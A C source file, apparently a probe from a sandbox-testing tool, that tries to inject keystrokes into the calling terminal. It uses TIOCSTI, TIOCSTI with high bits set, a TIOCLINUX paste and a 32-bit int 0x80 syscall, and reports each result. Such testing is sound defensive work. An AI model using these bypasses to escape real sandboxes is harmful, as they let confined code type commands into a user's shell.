// Attempts to type on the caller's terminal (CVE-2017-5226, CVE-2019-10063, CVE-2023-28100).
#include "attack.h"

#include <fcntl.h>
#include <stdio.h>
#include <errno.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

static void try_both(const char *where, int file) {
  char what[64], key = '!', paste[2] = {3, 0};
  snprintf(what, sizeof what, "%s TIOCSTI", where);
  tell(what, file < 0 ? -1 : syscall(SYS_ioctl, file, TIOCSTI, &key));
  // The kernel looks at 32 bits only.
  snprintf(what, sizeof what, "%s TIOCSTI with more bits", where);
  tell(what, file < 0 ? -1 : syscall(SYS_ioctl, file, TIOCSTI | 1L << 32, &key));
  snprintf(what, sizeof what, "%s TIOCLINUX", where);
  tell(what, file < 0 ? -1 : syscall(SYS_ioctl, file, TIOCLINUX, paste));
#ifdef __x86_64__
  // As a 32-bit program makes the call; its arguments have to be in the first 4 GB.
  char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
  *low = '!';
  long result = 54;
  __asm__ volatile("int $0x80" : "+a"(result) : "b"((long)file), "c"((long)TIOCSTI), "d"(low) : "memory");
  errno = -result;
  snprintf(what, sizeof what, "%s TIOCSTI of 32 bits", where);
  tell(what, result);
#endif
}

// terminal: by its name and by the standard streams. At the end says how many bytes wait to be read.
int terminal_command(int count, char **arguments) {
  (void)count, (void)arguments;
  int terminal = open("/dev/tty", O_RDWR | O_NOCTTY);
  try_both("/dev/tty", terminal);
  try_both("stdin", 0);
  int size;
  tell("another request", ioctl(0, TIOCGPGRP, &size));
  say("done");
  return 0;
}
